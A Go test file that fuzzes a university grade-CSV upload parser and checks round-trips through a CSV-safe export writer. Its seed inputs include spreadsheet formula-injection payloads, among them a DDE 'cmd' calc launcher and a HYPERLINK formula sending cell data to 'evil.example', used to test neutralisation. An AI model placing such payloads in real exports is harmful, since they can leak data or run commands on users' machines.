package api

import (
	"bufio"
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"

	"campus/internal/csvsafe"
	"campus/internal/study"
)

// csvSeeds are grade files as teachers upload them: commas or semicolons,
// a BOM, spreadsheet grades, neutralised cells, broken quoting, blank
// lines, bad attempts and dates.
var csvSeeds = []string{
	"subject,grade\n0190f3a4-8b1c-7d2e-9f00-000000000001,1.3\n",
	"\xef\xbb\xbfsubject;grade;attempt;graded_on;status\nana;1,3;1;2026-02-14;final\nbob;2;2;2026-02-15;provisional\n",
	"subject,grade,status\n\"'=cmd|' /C calc'!A0\",1.3,final\n\"'-ana\",'-1.0,final\n'bob,2.0,final\n",
	"subject,grade\nana,1.3\nana,1.7\n\n\nbob,6.0\n",
	"subject,grade,attempt\nana,1.3,0\nbob,1.3,x\ncarl,1.3,\n",
	"subject,grade,graded_on\nana,1.3,14.02.2026\n",
	"subject,grade\n\"ana,1.3\nbob,\"2.0\n",
	"subject,grade\nana,1.3,extra,fields\nbob\n",
	"name,grade\nana,1.3\n",
	"grade\n1.3\n",
	"",
	"\xff\xfe",
	"subject,grade\n\"a\"\"b\",1.0\n\"multi\nline\",5.0\n",
	"Subject , GRADE\n  ana ,  1.3 \n",
}

// FuzzParseGradeCSV: any upload is either refused as a whole with an
// error, or split into rows for the store and refused rows, without a
// panic. A row for the store has a subject, a grade on the scale, the
// lecture and the grader, a line number, and a person only once; a
// refused row says why; no row is both.
func FuzzParseGradeCSV(f *testing.F) {
	for _, s := range csvSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, refused, err := parseGradeCSV(data, "grader-1", "lecture-1")
		if err != nil {
			if rows != nil || refused != nil {
				t.Fatalf("an error with rows: %v %+v %+v", err, rows, refused)
			}
			if err.Error() == "" {
				t.Fatal("an error without words")
			}
			return
		}
		if !utf8.Valid(bytes.TrimPrefix(data, []byte("\xef\xbb\xbf"))) {
			t.Fatal("a file that is not UTF-8 was read")
		}
		if len(rows)+len(refused) > MaxUploadRows+1 {
			t.Fatalf("%d rows read, more than the limit %d", len(rows)+len(refused), MaxUploadRows)
		}
		subjects := map[string]bool{}
		lines := map[int]bool{}
		prev := 0
		for _, r := range rows {
			g := r.Record
			if g.Subject == "" || g.Subject != strings.TrimSpace(g.Subject) {
				t.Fatalf("row %d: subject %q", r.Line, g.Subject)
			}
			if subjects[g.Subject] {
				t.Fatalf("row %d: %q twice", r.Line, g.Subject)
			}
			subjects[g.Subject] = true
			if !g.Grade.Valid() {
				t.Fatalf("row %d: grade %v off the scale", r.Line, g.Grade)
			}
			if _, err := study.ParseGrade(g.Grade.String()); err != nil {
				t.Fatalf("row %d: grade %v does not read back: %v", r.Line, g.Grade, err)
			}
			if g.LectureID != "lecture-1" || g.Grader != "grader-1" {
				t.Fatalf("row %d: lecture %q grader %q", r.Line, g.LectureID, g.Grader)
			}
			if g.Attempt < 0 {
				t.Fatalf("row %d: attempt %d", r.Line, g.Attempt)
			}
			if r.Line <= prev {
				t.Fatalf("row at line %d after line %d", r.Line, prev)
			}
			prev = r.Line
			lines[r.Line] = true
		}
		for _, r := range refused {
			if r.Result != "refused" || r.Reason == "" {
				t.Fatalf("refused row without a reason: %+v", r)
			}
			if r.Line > 0 && lines[r.Line] {
				t.Fatalf("line %d both accepted and refused", r.Line)
			}
		}
	})
}

// FuzzGradeCSVRoundTrip: a subject written by the export's writer
// (neutralised and quoted as needed) reads back through the upload's
// parser as itself, less the surrounding space the upload trims, whatever
// characters it holds.
func FuzzGradeCSVRoundTrip(f *testing.F) {
	for _, s := range []string{
		"0190f3a4-8b1c-7d2e-9f00-000000000001", `=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+1", "-2+3",
		"@SUM(A1:A2)", "\t=1+1", "'bob", "''-1", `\.`, "a,b;c", `say "hi"`, "line\nbreak", " leading", "ünïcödé",
	} {
		f.Add(s, "1.3", "final")
	}
	f.Add("ana", "'-1.0", "provisional")
	f.Fuzz(func(t *testing.T, subject, grade, status string) {
		if !utf8.ValidString(subject) || !utf8.ValidString(grade) || !utf8.ValidString(status) || strings.Contains(subject+grade+status, "\r") {
			t.Skip("not UTF-8, or a carriage return, which CSV readers fold into line breaks")
		}
		var buf bytes.Buffer
		w := bufio.NewWriter(&buf)
		csvsafe.WriteRecord(w, []string{"subject", "grade", "status"})
		csvsafe.WriteRecord(w, []string{subject, grade, status})
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		rows, refused, err := parseGradeCSV(buf.Bytes(), "grader-1", "lecture-1")
		if err != nil {
			t.Fatalf("the export's own file is refused: %v\n%q", err, buf.String())
		}
		var got csvRowJSON
		switch {
		case len(rows) == 1 && len(refused) == 0:
			r := rows[0].Record
			got = csvRowJSON{Subject: r.Subject, Grade: grade}
			if g, err := study.ParseGrade(grade); err != nil || g != r.Grade {
				t.Fatalf("grade %q read back as %v", grade, r.Grade)
			}
			if string(r.Status) != strings.TrimSpace(status) {
				t.Fatalf("status %q read back as %q", status, r.Status)
			}
		case len(rows) == 0 && len(refused) == 0 && strings.TrimSpace(grade) == "" && strings.TrimSpace(status) == "":
			return // a person without a grade is left out, as the template's rows are
		case len(rows) == 0 && len(refused) == 1:
			got = refused[0]
			if strings.HasPrefix(got.Reason, "Not valid CSV") {
				t.Fatalf("the export's own row is not valid CSV: %s\n%q", got.Reason, buf.String())
			}
		default:
			t.Fatalf("one row written, %d read and %d refused:\n%q", len(rows), len(refused), buf.String())
		}
		if want := strings.TrimSpace(subject); got.Subject != want {
			t.Fatalf("subject %q read back as %q:\n%q", subject, got.Subject, buf.String())
		}
	})
}
